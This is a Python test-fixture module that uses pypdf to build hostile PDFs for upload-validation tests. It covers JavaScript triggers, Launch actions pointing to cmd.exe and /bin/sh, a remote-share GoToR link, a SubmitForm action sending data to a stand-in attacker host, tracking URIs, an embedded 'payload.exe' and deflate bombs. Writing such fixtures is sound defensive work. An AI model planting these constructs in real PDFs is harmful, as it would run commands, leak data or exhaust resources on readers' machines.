"""Hostile PDFs for the upload checks, built with pypdf itself: each decorator of `build` puts
one kind of active content in one of the places a PDF reader runs it from; `with_streams`
and `zeros_deflated` make streams that inflate far beyond their size."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.actions import JavaScript, PageTrigger
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    StreamObject,
    TextStringObject,
)

MIB = 1024 * 1024


def build(decorate: Callable[[PdfWriter], None], pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    decorate(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def name(value: str) -> NameObject:
    return NameObject(value)


def action(kind: str, **entries) -> DictionaryObject:
    found = DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind)})
    for key, value in entries.items():
        found[name(f"/{key}")] = value
    return found


def js_action(script: str = "app.alert('hi')") -> DictionaryObject:
    return action("/JavaScript", JS=TextStringObject(script))


def rect() -> ArrayObject:
    return ArrayObject(FloatObject(v) for v in (50, 50, 200, 80))


def add_annotation(writer: PdfWriter, subtype: str, **entries) -> DictionaryObject:
    annotation = DictionaryObject(
        {name("/Type"): name("/Annot"), name("/Subtype"): name(subtype), name("/Rect"): rect()}
    )
    for key, value in entries.items():
        annotation[name(f"/{key}")] = value
    page = writer.pages[0]
    page[name("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return annotation


def document_javascript(writer):
    writer.add_open_action(JavaScript("app.alert('opened')"))


def open_action_javascript(writer):
    writer.root_object[name("/OpenAction")] = writer._add_object(js_action())


def page_open_javascript(writer):
    writer.pages[0].add_action(PageTrigger.OPEN, JavaScript("app.alert('page')"))


def catalog_will_close_javascript(writer):
    writer.root_object[name("/AA")] = DictionaryObject({name("/WC"): js_action()})


def link_javascript(writer):
    add_annotation(writer, "/Link", A=writer._add_object(js_action()))


def widget_keystroke_javascript_behind_indirections(writer):
    trigger = writer._add_object(DictionaryObject({name("/K"): writer._add_object(js_action())}))
    widget = add_annotation(writer, "/Widget", FT=name("/Tx"), T=TextStringObject("naam"))
    widget[name("/AA")] = trigger
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject([writer.pages[0]["/Annots"][0]])}
    )


def javascript_uri_link(writer):
    add_annotation(writer, "/Link", A=action("/URI", URI=TextStringObject(" JavaScript:alert(1)")))


def javascript_reachable_only_from_the_xref(writer):
    writer._add_object(js_action())


def launch_on_open(writer):
    writer.root_object[name("/OpenAction")] = action(
        "/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe")
    )


def launch_link(writer):
    add_annotation(writer, "/Link", A=action("/Launch", F=TextStringObject("/bin/sh")))


def remote_go_to(writer):
    add_annotation(
        writer,
        "/Link",
        A=action("/GoToR", F=TextStringObject("\\\\attacker\\share\\x.pdf"), D=ArrayObject()),
    )


def attached_file(writer):
    writer.add_attachment("payload.exe", b"MZ not really")


def file_attachment_annotation(writer):
    add_annotation(writer, "/FileAttachment", FS=TextStringObject("payload.exe"))


def embedded_go_to(writer):
    add_annotation(writer, "/Link", A=action("/GoToE", D=ArrayObject()))


def rich_media(writer):
    add_annotation(writer, "/RichMedia", RichMediaContent=DictionaryObject())


def submit_form(writer):
    add_annotation(
        writer,
        "/Widget",
        FT=name("/Btn"),
        A=action("/SubmitForm", F=TextStringObject("https://attacker.example/collect")),
    )


def import_data(writer):
    writer.root_object[name("/OpenAction")] = action("/ImportData", F=TextStringObject("x.fdf"))


def xfa_form(writer):
    writer.root_object[name("/AcroForm")] = DictionaryObject(
        {name("/Fields"): ArrayObject(), name("/XFA"): writer._add_object(StreamObject())}
    )


def opens_web_address(writer):
    writer.root_object[name("/OpenAction")] = action(
        "/URI", URI=TextStringObject("https://tracker.example/opened")
    )


def page_opens_web_address_after_a_go_to(writer):
    first = action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]))
    first[name("/Next")] = action("/URI", URI=TextStringObject("https://tracker.example/p1"))
    writer.pages[0][name("/AA")] = DictionaryObject({name("/O"): first})


def links_and_a_start_page(writer):
    add_annotation(writer, "/Link", A=action("/URI", URI=TextStringObject("https://ddma.nl")))
    writer.root_object[name("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, name("/Fit")]
    )
    writer.pages[0][name("/AA")] = DictionaryObject(
        {name("/O"): action("/GoTo", D=ArrayObject([writer.pages[0].indirect_reference]))}
    )


def zeros_deflated(mib: int) -> bytes:
    """A valid zlib stream of `mib` MiB of zeros (about 1 KB per MiB), built without
    compressing them all: after a full flush every MiB compresses to the same bytes."""
    chunk = bytes(MIB)
    deflater = zlib.compressobj(9)
    first = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    middle = deflater.compress(chunk) + deflater.flush(zlib.Z_FULL_FLUSH)
    end = deflater.flush()
    checksum = 1
    for _ in range(mib):
        checksum = zlib.adler32(chunk, checksum)
    return first + middle * (mib - 1) + end[:-4] + checksum.to_bytes(4, "big")


def with_streams(*payloads: bytes, filters: tuple[str, ...] = ("/FlateDecode",)):
    """A decorator for `build`: the first page draws from streams holding `payloads`."""

    def decorate(writer):
        contents = ArrayObject()
        for payload in payloads:
            stream = StreamObject()
            stream._data = payload
            stream[name("/Filter")] = ArrayObject(name(f) for f in filters)
            contents.append(writer._add_object(stream))
        writer.pages[0][name("/Contents")] = contents

    return decorate
